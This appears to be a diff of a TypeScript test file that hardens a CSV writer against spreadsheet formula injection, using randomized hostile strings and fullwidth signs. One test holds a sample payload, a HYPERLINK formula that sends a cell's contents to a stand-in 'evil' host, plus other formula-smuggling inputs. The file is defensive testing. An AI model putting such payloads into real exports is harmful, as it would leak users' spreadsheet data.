@@ -38,7 +38,7 @@ function parseCsv(text: string): string[][] {
 }
 
 const hostile = fc.string({
-  unit: fc.constantFrom('"', ',', '\r', '\n', '\t', '=', '+', '-', '@', "'", ' ', 'a', '日', '🚀'),
+  unit: fc.constantFrom('"', ',', ';', '\r', '\n', '\t', '=', '+', '-', '@', '＝', "'", ' ', 'a', '日', '🚀'),
 });
 const cell = fc.oneof(
   hostile,
@@ -47,7 +47,20 @@ const cell = fc.oneof(
   fc.boolean(),
   fc.constant(null),
 );
-const safe = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
+const SIGNS = '=+-@＝＋－＠';
+
+/** Character by character: an apostrophe stands in front of a text that begins like a formula, and before each sign that begins a part. */
+function safe(text: string): string {
+  let written = SIGNS.includes(text.trimStart()[0] ?? 'a') || /^[\t\r]/.test(text) ? "'" : '';
+  let begins = false;
+  for (const sign of text) {
+    if (begins && SIGNS.includes(sign)) written += "'";
+    written += sign;
+    if (';\t\r\n'.includes(sign)) begins = true;
+    else if (sign.trim() !== '') begins = false;
+  }
+  return written;
+}
 
 describe('csvLine', () => {
   it('is read back as it was written, by a reader of its own', () => {
@@ -65,13 +78,20 @@ describe('csvLine', () => {
     );
   });
 
-  it('never lets a text begin like a formula', () => {
+  it('never lets a text begin like a formula, whatever sign separates lists on the system', () => {
     fc.assert(
       fc.property(hostile, (text) => {
         const [[first = ''] = []] = parseCsv(csvLine([text, 1]));
-        expect(first).not.toMatch(/^[=+\-@\t\r]/);
+        expect(first).not.toMatch(/^[\t\r]/);
+        for (const part of first.split(/[;\t\r\n]/)) expect(part).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
       }),
       { seed: 4, numRuns: 2_000 },
+    );
+  });
+
+  it('makes the known tricks safe', () => {
+    expect(csvLine(['x\t=2', 'a;=HYPERLINK("http://evil/?"&A1)', ' =1', '＝1+1'])).toBe(
+      `"x\t'=2","a;'=HYPERLINK(""http://evil/?""&A1)",' =1,'＝1+1\r\n`,
     );
   });
 
